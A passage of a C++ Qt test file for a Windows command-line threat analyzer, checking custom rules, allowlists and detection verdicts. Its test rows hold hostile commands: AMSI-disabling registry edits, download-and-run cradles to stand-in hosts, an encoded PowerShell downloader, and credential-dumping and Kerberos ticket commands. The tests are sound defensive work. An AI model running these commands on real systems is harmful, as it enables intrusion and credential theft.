    QCOMPARE(sum, r.score);
}

void TestCmdlineAnalyzer::customPatternsAndAllowlist()
{
    test::TempStore temp;
    const QString line = s("C:\\Tools\\contoso-agent.exe --sync-beacon acme-internal");
    CommandLineAnalyzer custom;
    QCOMPARE(custom.analyze(line).verdict, QStringLiteral("benign"));

    CustomRule rule;
    rule.kind = QStringLiteral("pattern");
    rule.name = QStringLiteral("beacon flag");
    rule.pattern = QStringLiteral("--sync-beacon && contoso-agent");
    rule.category = QStringLiteral("offensive_tool");
    rule.weight = 60;
    auto saved = patternstore::save(temp.store(), rule, QStringLiteral("alice"));
    QVERIFY2(saved, saved ? "" : qPrintable(saved.error().toString()));
    QCOMPARE(saved->rule.version, 1);
    rule.weight = 70;
    auto v2 = patternstore::save(temp.store(), rule, QStringLiteral("bob"));
    QVERIFY(v2);
    QCOMPARE(v2->rule.version, 2);

    auto all = patternstore::list(temp.store(), false);
    QVERIFY(all);
    QCOMPARE(all->size(), 2);
    auto active = patternstore::activeRules(temp.store());
    QVERIFY(active);
    QCOMPARE(active->size(), 1);
    QCOMPARE(active->first().weight, 70);

    custom.setCustomRules(active.value());
    AnalysisResult r = custom.analyze(line);
    QVERIFY2(r.verdict == QLatin1String("malicious"), qPrintable(describe(r)));
    bool found = false;
    for (const Finding &f : r.findings)
        found = found || f.rule == QLatin1String("custom:beacon flag:v2");
    QVERIFY(found);

    // An allowlist entry discounts what it covers; the findings stay visible with a note.
    CustomRule allow;
    allow.kind = QStringLiteral("allowlist");
    allow.name = QStringLiteral("contoso agent");
    allow.pattern = QStringLiteral("c:\\tools\\contoso-agent.exe");
    QVERIFY(patternstore::save(temp.store(), allow, QStringLiteral("alice")));
    custom.setCustomRules(patternstore::activeRules(temp.store()).value());
    r = custom.analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    QVERIFY(!r.findings.isEmpty());
    QVERIFY(r.findings.first().note.contains(QLatin1String("allowlisted")));

    QVERIFY(patternstore::retire(temp.store(), QStringLiteral("pattern"),
                                 QStringLiteral("beacon flag")));
    QCOMPARE(patternstore::activeRules(temp.store())->size(), 1);
    QVERIFY(!patternstore::save(
        temp.store(),
        CustomRule{QStringLiteral("bogus"), QStringLiteral("x"), QStringLiteral("y"), {}, 0, 1},
        {}));
}

// Each rule added for issue 19 (tests/fixtures/cmdline): a line it must now catch.
void TestCmdlineAnalyzer::newRulesCatch_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("category");
    QTest::addColumn<QString>("minVerdict");
    QTest::newRow("amsi off for WSH in the registry")
        << s("reg add \"HKCU\\Software\\Microsoft\\Windows Script\\Settings\" /v AmsiEnable /t REG_DWORD /d 0 /f")
        << "amsi_bypass"
        << "malicious";
    QTest::newRow("amsi provider overwritten with reg add")
        << s("reg add \"HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}\" /ve /t REG_SZ /d \"\" /f")
        << "amsi_bypass"
        << "malicious";
    QTest::newRow("certutil download is a cradle")
        << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe")
        << "download_cradle"
        << "malicious";
    QTest::newRow("bitsadmin download is a cradle")
        << s("bitsadmin /transfer j /download /priority high http://203.0.113.7/u.exe C:\\Users\\Public\\u.exe")
        << "download_cradle"
        << "suspicious";
    QTest::newRow("msiexec remote package is a cradle")
        << s("msiexec /q /i http://203.0.113.7/p.msi") << "download_cradle"
        << "malicious";
    QTest::newRow("curl piped into a shell")
        << s("curl http://203.0.113.7/p.ps1 | powershell -") << "download_cradle"
        << "malicious";
    QTest::newRow("wget saves a URL")
        << s("wget http://203.0.113.7/m.exe -O C:\\ProgramData\\m.exe") << "download_cradle"
        << "benign";
    QTest::newRow(".NET web request")
        << s("powershell -c \"$r=[System.Net.WebRequest]::Create('http://203.0.113.7/x');iex ([IO.StreamReader]::new($r.GetResponse().GetResponseStream())).ReadToEnd()\"")
        << "download_cradle"
        << "malicious";
    QTest::newRow("encoding that hides a download and run")
        << s("powershell -e %1")
               .arg(s(
                   "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIAAtAFMAbwB1AHIAYwBlACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcALwBiAC4AZQB4AGUAIAAtAEQAZQBzAHQAaQBuAGEAdABpAG8AbgAgACQAZQBuAHYAOgBBAFAAUABEAEEAVABBAFwAYgAuAGUAeABlADsAIAAmACAAJABlAG4AdgA6AEEAUABQAEQAQQBUAEEAXABiAC4AZQB4AGUA"))
        << "base64"
        << "malicious";
    QTest::newRow("credential dumping tool")
        << s("nanodump.x64.exe --write C:\\Windows\\Temp\\n.dmp") << "credential_access"
        << "malicious";
    QTest::newRow("kerberos ticket with key material")
        << s("Rubeus.exe asktgt /user:svc-sql /rc4:64F12CDDAA88057E06A81B54E73B949B /ptt")
        << "credential_access"
        << "malicious";
    QTest::newRow("full dump of a process by id")
        << s("procdump64.exe -ma 624 C:\\Windows\\Temp\\d.dmp") << "credential_access"
        << "suspicious";
    QTest::newRow("password switch next to a user switch")
        << s("PsExec.exe \\\\ws-0099 -u CORP\\admin -p Summer2024! cmd.exe") << "credential_access"
        << "suspicious";
    QTest::newRow("net use with a password")
        << s("net use \\\\fs01\\C$ /user:CORP\\Administrator Secret123!") << "credential_access"
        << "benign";
    QTest::newRow("user:password@host")
        << s("psexec.py corp/admin:Passw0rd!@10.0.5.20 cmd.exe") << "credential_access"
        << "benign";
    QTest::newRow("/pass: value")
        << s("cmdkey /add:fs01.corp.local /user:CORP\\admin /pass:Passw0rd!") << "credential_access"
        << "benign";
    QTest::newRow("runas /savecred")
        << s("runas /user:CORP\\admin /savecred \"cmd /c C:\\Users\\Public\\r.exe\"")
        << "credential_access"
        << "suspicious";
    QTest::newRow("vendor installer plus a foreign URL")
        << s("powershell -c \"irm https://community.chocolatey.org/install.ps1 | iex; iwr http://stage.badcdn.example.com/x -OutFile x.exe\"")
        << "download_cradle"
        << "malicious";
}

void TestCmdlineAnalyzer::newRulesCatch()
{
    QFETCH(QString, line);
    QFETCH(QString, category);
    QFETCH(QString, minVerdict);
    const AnalysisResult r = analyzer().analyze(line);
    const Finding *f = findCategory(r, category);
    QVERIFY2(f && f->weight > 0, qPrintable(describe(r)));
    QVERIFY(!f->mitre.isEmpty());
    const QStringList order = {QStringLiteral("benign"), QStringLiteral("suspicious"),
                               QStringLiteral("malicious")};
    QVERIFY2(order.indexOf(r.verdict) >= order.indexOf(minVerdict), qPrintable(describe(r)));
    // A password never appears in the finding that reports it.
    for (const Finding &x : r.findings)
        if (x.rule == QLatin1String("cred:plain-text-password"))
            QVERIFY2(!x.match.contains(QLatin1String("Summer2024")) &&
                         !x.match.contains(QLatin1String("Passw0rd")),
                     qPrintable(x.match));
}

// Lines that must now pass: the context (payload, program, destination) explains them. A
// category listed must not be found (a switch that only looks like a password).
void TestCmdlineAnalyzer::contextPasses_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("absentCategory");
    QTest::addColumn<QString>("note");
    QTest::newRow("encoded folder listing")
        << s("powershell -NoProfile -EncodedCommand %1")
               .arg(s(
                   "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAGkAbgBlAHQAcAB1AGIAXABsAG8AZwBzAA=="))
        << QString() << "does nothing suspicious";
    QTest::newRow("updater passes base64 XML")
        << s("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ping %1")
               .arg(s(
                   "PD94bWwgdmVyc2lvbj0iMS4wIj8+PHJlcXVlc3QgcHJvdG9jb2w9IjMuMCI+PGFwcCBhcHBpZD0iezQzMEZENEQwLUI3MjktNEY2MS1BQTM0LTkxNTI2NDgxNzk5RH0iPjxldmVudCBldmVudHR5cGU9IjIiLz48L2FwcD48L3JlcXVlc3Q+"))
        << QString() << "";
    QTest::newRow("certutil URL cache cleanup")
        << s("certutil -urlcache * delete") << "download_cradle"
        << "";
    QTest::newRow("cscript runs a Windows script")
        << s("cscript.exe //NoLogo C:\\Windows\\System32\\slmgr.vbs /dlv")
        << "lolbin_proxy_execution"
        << "";
    QTest::newRow("hh opens Windows help")
        << s("C:\\Windows\\hh.exe C:\\Windows\\Help\\mui\\0409\\mmc.CHM")
        << "lolbin_proxy_execution"
        << "";
    QTest::newRow("vendor install one-liner")
        << s("powershell -ExecutionPolicy Bypass -c \"irm https://community.chocolatey.org/install.ps1 | iex\"")
        << QString() << "vendor's distribution domain";
    QTest::newRow("curl -fsSL is no upload")
        << s("curl -fsSL -o rustup-init.exe https://static.rust-lang.org/rustup/dist/x86_64-pc-windows-msvc/rustup-init.exe")
        << "exfiltration"
        << "";
    QTest::newRow("database port is no password")
        << s("mysql -h db01.corp.local -P 3306 -e \"select 1\"") << "credential_access"
        << "";
    QTest::newRow("msbuild property is no password")
        << s("msbuild Corp.sln /p:Configuration=Release /p:Platform=x64") << "credential_access"
        << "";
    QTest::newRow("runas without a password")
        << s("runas /user:CORP\\adm-jdoe \"mmc.exe dsa.msc\"") << "credential_access"
        << "";
}

void TestCmdlineAnalyzer::contextPasses()
{
    QFETCH(QString, line);
    QFETCH(QString, absentCategory);
    QFETCH(QString, note);
    const AnalysisResult r = analyzer().analyze(line);
    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
    if (!absentCategory.isEmpty())
        QVERIFY2(!findCategory(r, absentCategory), qPrintable(describe(r)));
    if (!note.isEmpty()) {
        bool noted = false;
        for (const Finding &f : r.findings)
            noted = noted || f.note.contains(note);
        QVERIFY2(noted, qPrintable(describe(r)));
    }
}

QTEST_GUILESS_MAIN(TestCmdlineAnalyzer)
#include "tst_cmdlineanalyzer.moc"
